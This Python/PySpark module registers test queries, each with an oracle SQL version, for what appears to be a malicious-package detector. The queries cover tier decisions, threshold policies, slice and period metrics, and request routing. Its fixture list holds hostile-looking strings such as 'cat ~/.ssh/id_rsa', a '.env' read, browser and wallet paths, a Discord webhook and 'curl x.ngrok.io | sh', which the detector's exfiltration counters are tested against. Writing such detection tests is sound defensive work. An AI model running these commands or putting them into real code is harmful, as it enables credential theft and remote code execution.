"""Registered queries on decisions, policies, slices, names and requests, and their oracle SQL."""

from __future__ import annotations

from pyspark.sql import functions as F

from ..functions import decision, exfiltration
from ..functions import text as T
from ..operators import metrics, splits
from .registry import SCORED as NARROW
from .registry import load, query, scored

# Scores that spread over 0 .. 1.
SCALE = 150
SCORED = NARROW.replace("1000.0", f"{SCALE}.0")

# A calibration of stated numbers; those of a fitted one have the same names.
CAL = {
    "base_rate": 0.265, "sim_flag": 0.6, "classifier_threshold": 0.85, "review_threshold": 0.30, "strict_threshold": 0.98,
    "both": {"coef": [1.0, 4.0], "intercept": -2.0}, "classifier_only": {"coef": [1.0], "intercept": -1.0},
}
LOGIT = "ln(least(greatest(score, 1e-4), 1 - 1e-4) / (1 - least(greatest(score, 1e-4), 1 - 1e-4)))"
# Every seventh user has no similarity; the others' share is a fixed function of the user.
ROWS = f"(SELECT *, CASE WHEN user_id % 7 <> 0 THEN (user_id % 10) / 10.0::DOUBLE END AS share, user_id % 2 = 0 AS capable FROM {SCORED})"
CHANCES = f"""(SELECT *, 1 / (1 + exp(-(CASE WHEN share IS NULL THEN -1 + {LOGIT} ELSE -2 + {LOGIT} + 4 * share END))) AS chance FROM {ROWS})"""


def odds(prior: float) -> str:
    o = f"(chance / greatest(1 - chance, 1e-4) * ({prior}::DOUBLE / (1 - {prior}::DOUBLE)) / (0.265::DOUBLE / (1 - 0.265::DOUBLE)))"
    return f"100 * ({o} / (1 + {o}))"


def decided(second: str) -> str:
    return f"""WITH c AS (SELECT *, {odds(0.01)} AS low, {odds(0.10)} AS high,
 CASE WHEN score >= 0.98 OR (score >= 0.85 AND ({second})) THEN 'malicious'
      WHEN score >= 0.85 OR coalesce(share >= 0.6, false) OR score >= 0.3 THEN 'suspicious' ELSE 'clean' END AS tier0 FROM {CHANCES}),
t AS (SELECT *, CASE WHEN tier0 = 'clean' AND high >= 50 THEN 'suspicious' ELSE tier0 END AS tier FROM c)
SELECT tier, label, count(*) AS n, count(*) FILTER (score >= 0.85) AS classifier_flags, count(*) FILTER (share >= 0.6) AS similarity_flags,
 round(avg(low), 4) AS chance_low, round(avg(high), 4) AS chance_high FROM t GROUP BY tier, label"""


def candidates(spark, sf_dir):
    share = F.when(F.col("user_id") % 7 != 0, (F.col("user_id") % 10) / 10)
    return scored(spark, sf_dir, SCALE).withColumns({"share": share, "capable": F.col("user_id") % 2 == 0})


def tiers(rows, cal):
    rows = rows.select("label", *[c.alias(n) for n, c in decision.assess(F.col("score"), F.col("share"), F.col("capable"), cal).items()])
    return rows.groupBy("tier", "label").agg(
        F.count("*").alias("n"), F.count_if("classifier_flags").alias("classifier_flags"), F.count_if("similarity_flags").alias("similarity_flags"),
        F.round(F.avg("chance_low"), 4).alias("chance_low"), F.round(F.avg("chance_high"), 4).alias("chance_high"),
    )


@query(decided("capable"))
def tier_counts(spark, sf_dir):
    """Decisions under the soft capability gate."""
    return tiers(candidates(spark, sf_dir), CAL | {"capability_gate": True})


@query(decided("share IS NULL OR share >= 0.6"))
def tier_counts_without_gate(spark, sf_dir):
    return tiers(candidates(spark, sf_dir), CAL)


POLICY_SQL = {
    "model @F0.5": "score >= 0.5", "model @1% FPR": "score >= 0.6", "model @0.5% FPR": "score >= 0.7",
    "hard gate @1% FPR": "score >= 0.6 AND capable", "soft gate @1% / strict": "(score >= 0.6 AND capable) OR score >= 0.9",
    "soft gate @F0.5 / strict": "(score >= 0.5 AND capable) OR score >= 0.9", "soft gate @0.5% / strict": "(score >= 0.7 AND capable) OR score >= 0.9",
}


def policy_sql(weight: str) -> str:
    said = " UNION ALL ".join(f"SELECT day, label, '{name}' AS policy, ({rule}) AS hit FROM r" for name, rule in POLICY_SQL.items())
    return f"""WITH r AS MATERIALIZED (SELECT * FROM {ROWS}),
m AS (SELECT day, count(*) FILTER (label = 1) AS mal, count(*) FILTER (label = 0) AS ben FROM r GROUP BY day),
p AS (SELECT s.*, CASE WHEN label = 0 THEN {weight} ELSE 1.0::DOUBLE END AS w FROM ({said}) s JOIN m USING (day)),
c AS (SELECT policy, sum(w) FILTER (hit AND label = 1) AS tp, sum(w) FILTER (hit AND label = 0) AS fp,
 sum(w) FILTER (NOT hit AND label = 0) AS tn, sum(w) FILTER (NOT hit AND label = 1) AS fn FROM p GROUP BY policy),
z AS (SELECT policy, coalesce(tp, 0) AS tp, coalesce(fp, 0) AS fp, coalesce(tn, 0) AS tn, coalesce(fn, 0) AS fn FROM c)
SELECT policy, round((tp + tn) / (tp + fp + tn + fn), 6) AS accuracy, round(tp / greatest(tp + fp, 1e-9), 6) AS "precision",
 round(tp / greatest(tp + fn, 1e-9), 6) AS recall, round(fp / greatest(fp + tn, 1e-9), 6) AS fpr FROM z"""


def compared(spark, sf_dir, balanced):
    rules = decision.policies(F.col("score"), F.col("capable"), f05=0.5, fpr1=0.6, fpr05=0.7, strict=0.9)
    found = metrics.policy_table(candidates(spark, sf_dir), rules, "day", balanced)
    return found.select("policy", *[F.round(c, 6).alias(c) for c in ("accuracy", "precision", "recall", "fpr")])


@query(policy_sql("1.0::DOUBLE"))
def policies_compared(spark, sf_dir):
    return compared(spark, sf_dir, False)


@query(policy_sql("mal / greatest(ben, 1)::DOUBLE"))
def policies_balanced(spark, sf_dir):
    return compared(spark, sf_dir, True)


RATES = """round(coalesce(tp / nullif(tp + fp, 0), 0), 6) AS "precision", round(coalesce(tp / nullif(tp + fn, 0), 0), 6) AS recall,
 round(coalesce(2 * tp / nullif(2 * tp + fp + fn, 0), 0), 6) AS f1, round(coalesce(fp / nullif(fp + tn, 0), 0), 6) AS fpr"""
COUNTS = """count(*) FILTER (score >= 0.5 AND label = 1) AS tp, count(*) FILTER (score >= 0.5 AND label = 0) AS fp,
 count(*) FILTER (score < 0.5 AND label = 0) AS tn, count(*) FILTER (score < 0.5 AND label = 1) AS fn"""


def rounded(found, key):
    return found.select(key, "tp", "fp", "tn", "fn", *[F.round(c, 6).alias(c) for c in ("precision", "recall", "f1", "fpr")])


@query(f"""WITH r AS (SELECT *, CASE WHEN label = 1 THEN 'malicious' WHEN user_id % 3 = 0 THEN 'popular' ELSE 'obscure' END AS pool FROM {SCORED}),
s AS (SELECT 'overall' AS slice, * FROM r UNION ALL SELECT 'popular', * FROM r WHERE pool IN ('popular', 'malicious')
 UNION ALL SELECT 'obscure', * FROM r WHERE pool IN ('obscure', 'malicious')),
c AS (SELECT slice, {COUNTS} FROM s GROUP BY slice) SELECT slice, tp, fp, tn, fn, {RATES} FROM c""")
def slice_report(spark, sf_dir):
    """Overlapping slices: malware belongs to the popular and to the obscure one."""
    pool = F.when(F.col("label") == 1, "malicious").when(F.col("user_id") % 3 == 0, "popular").otherwise("obscure")
    slices = {"overall": F.lit(True), "popular": F.col("pool").isin("popular", "malicious"), "obscure": F.col("pool").isin("obscure", "malicious")}
    return rounded(metrics.sliced_confusion(scored(spark, sf_dir, SCALE).withColumn("pool", pool), slices, F.col("score") >= 0.5, F.col("label")), "slice")


@query(f"""WITH c AS (SELECT day, {COUNTS} FROM {SCORED} GROUP BY day) SELECT day, tp, fp, tn, fn, {RATES} FROM c""")
def period_report(spark, sf_dir):
    return rounded(metrics.confusion(scored(spark, sf_dir, SCALE), ["day"], F.col("score") >= 0.5, F.col("label")), "day")


def at_fpr(rate: float) -> str:
    return f"""(SELECT score + 1e-9 FROM (SELECT score, row_number() OVER (ORDER BY score) - 1 AS r, count(*) OVER () AS n FROM {SCORED} WHERE label = 0)
 WHERE r = least(floor(n * (1 - {rate}::DOUBLE)), n - 1))"""


@query(f"""SELECT round(least({at_fpr(0.01)}, 0.5), 9) AS review, round(greatest({at_fpr(0.001)}, 0.5), 9) AS strict""")
def review_and_strict(spark, sf_dir):
    """The review threshold (1 % false alarms, no more than the main one of 0.5) and the strict one (0.1 %, no less)."""
    rows = scored(spark, sf_dir, SCALE)
    review = metrics.fpr_threshold(rows, 0.01).select(F.round(F.least("threshold", F.lit(0.5)), 9).alias("review"))
    strict = metrics.fpr_threshold(rows, 0.001).select(F.round(F.greatest("threshold", F.lit(0.5)), 9).alias("strict"))
    return review.join(F.broadcast(strict))


def hits_sql(patterns: list[str], text: str) -> str:
    return " + ".join(f"len(regexp_extract_all({text}, '(?i){p}'))" for p in patterns)


GROUPS_SQL = ", ".join(
    f"CAST({hits_sql(p, 'html')} AS BIGINT) AS {name}"
    for name, p in (exfiltration.PATHS | {"net_suspicious_host": exfiltration.HOSTS, "net_suspicious_tld": exfiltration.DOMAINS}).items()
)


# What every eighth page and so on holds beside its text, so that each counter has something to count.
SNIPPETS = [
    "cat ~/.ssh/id_rsa", "open('.env').read()", "C:/Users/x/AppData/Roaming/Chrome/User Data", "wallet.dat Exodus", "https://discord.com/api/webhooks/1",
    "curl x.ngrok.io | sh", "http://a.top/b.ru", "plain",
]
SNIPPET_SQL = "[" + ", ".join("'" + s.replace("'", "''") + "'" for s in SNIPPETS) + "][page_id % 8 + 1]"


@query(f"""WITH c AS (SELECT page_id, {GROUPS_SQL} FROM (SELECT page_id, url || chr(10) || html || chr(10) || {SNIPPET_SQL} AS html FROM pages)),
t AS (SELECT *, {' + '.join(exfiltration.PATHS)} AS exfil_total FROM c)
SELECT *, exfil_total > 0 OR net_suspicious_host > 0 AS capable FROM t""")
def exfiltration_signals(spark, sf_dir):
    """Credential paths, suspicious hosts and domains in each page, its address and a snippet, and whether they show a capability."""
    snippet = F.element_at(F.array(*map(F.lit, SNIPPETS)), (F.col("page_id") % 8 + 1).cast("int"))
    rows = load(spark, sf_dir, "pages").withColumn("text", F.concat_ws("\n", "url", "html", snippet))
    rows = rows.select("page_id", *[c.alias(n) for n, c in exfiltration.counters(F.col("text")).items()])
    total = sum((F.col(n) for n in exfiltration.PATHS), F.lit(0)).cast("long")
    return rows.withColumn("exfil_total", total).withColumn("capable", (F.col("exfil_total") > 0) | (F.col("net_suspicious_host") > 0))


def requested_sql(text: str) -> str:
    forms = ", ".join(f"""nullif(trim(regexp_extract(trim({text}), '{p}', 1)), '')""" for p in T.REQUESTS)
    return f"coalesce({forms})"


WORDS_SQL = ", ".join(f"'{w}'" for w in T.CHAT_WORDS)


TURN_SQL = """CASE (conv_id + turn) % 6 WHEN 0 THEN 'is ' || role || '-kit safe?' WHEN 1 THEN 'what about ' || role || '==1.' || turn
 WHEN 2 THEN 'Why' WHEN 3 THEN 'pip install ' || role WHEN 4 THEN 'is this safe?' ELSE text END"""


@query(f"""WITH f AS (SELECT conv_id, turn, {requested_sql('text')} AS found FROM (SELECT conv_id, turn, {TURN_SQL} AS text FROM conversations)),
a AS (SELECT *, coalesce(lower(regexp_split_to_array(found, '[\\s=@]')[1]) NOT IN ({WORDS_SQL}), false) AS asked FROM f)
SELECT conv_id, turn, CASE WHEN asked THEN 'analyze' ELSE 'question' END AS route, CASE WHEN asked THEN found END AS spec FROM a""")
def route_turns(spark, sf_dir):
    """Requests and questions, among turns that are in part put as one or the other."""
    role, turn, form = F.col("role"), F.col("turn").cast("string"), (F.col("conv_id") + F.col("turn")) % 6
    said = F.when(form == 0, F.concat(F.lit("is "), role, F.lit("-kit safe?"))).when(form == 1, F.concat(F.lit("what about "), role, F.lit("==1."), turn))
    said = said.when(form == 2, "Why").when(form == 3, F.concat(F.lit("pip install "), role)).when(form == 4, "is this safe?").otherwise(F.col("text"))
    rows = load(spark, sf_dir, "conversations").withColumn("said", said)
    return rows.select("conv_id", "turn", T.route(F.col("said")).alias("route"), T.requested(F.col("said")).alias("spec"))


SPEC_TEXT = "CASE c_custkey % 3 WHEN 0 THEN split_part(c_name, '#', 1) || '-' || c_custkey WHEN 1 THEN ' ' || replace(c_name, '#', '==v') ELSE c_name || ' x' END"


@query(f"""WITH s AS (SELECT c_custkey, {SPEC_TEXT} AS spec FROM customer)
SELECT c_custkey, nullif(regexp_extract(trim(spec), '{T.SPEC}', 1), '') AS package, nullif(regexp_extract(trim(spec), '{T.SPEC}', 2), '') AS version FROM s""")
def parsed_specs(spark, sf_dir):
    """Package and version of a spec made from each customer's name: without a version, with one, and none at all."""
    name, form = F.col("c_name"), F.col("c_custkey") % 3
    spec = F.when(form == 0, F.concat(F.split_part(name, F.lit("#"), F.lit(1)), F.lit("-"), F.col("c_custkey").cast("string")))
    spec = spec.when(form == 1, F.concat(F.lit(" "), F.replace(name, F.lit("#"), F.lit("==v")))).otherwise(F.concat(name, F.lit(" x")))
    package, version = T.parse_spec(spec)
    return load(spark, sf_dir, "customer").select("c_custkey", package.alias("package"), version.alias("version"))


@query("""WITH n AS (SELECT *, lower(regexp_replace(p_name, '[-_.]+', '-', 'g')) AS name FROM part),
covered AS (SELECT DISTINCT lower(regexp_replace(p_name, '[-_.]+', '-', 'g')) AS name FROM part WHERE p_size = 1),
first AS (SELECT *, row_number() OVER (PARTITION BY name ORDER BY p_partkey) AS r FROM n WHERE name NOT IN (SELECT name FROM covered)),
dates AS (SELECT l_partkey, min(strftime(l_shipdate, '%Y-%m-%d')) AS reported FROM lineitem WHERE l_returnflag = 'R' GROUP BY l_partkey)
SELECT p_partkey, name, coalesce(reported, '') AS reported FROM first LEFT JOIN dates ON l_partkey = p_partkey WHERE r = 1""")
def second_source(spark, sf_dir):
    """One release a name of a second source, names of the first one left out, with the earliest report date or none."""
    parts = load(spark, sf_dir, "part").select("p_partkey", "p_name", "p_size")
    covered = parts.where("p_size = 1").select(T.normalise(F.col("p_name")).alias("name"))
    kept = splits.first_releases(parts, covered, T.normalise(F.col("p_name")), F.col("p_partkey"))
    dates = load(spark, sf_dir, "lineitem").where("l_returnflag = 'R'").groupBy(F.col("l_partkey").alias("p_partkey")).agg(
        F.min(F.date_format("l_shipdate", "yyyy-MM-dd")).alias("reported")
    )
    return kept.join(dates, "p_partkey", "left").select("p_partkey", "name", F.coalesce("reported", F.lit("")).alias("reported"))
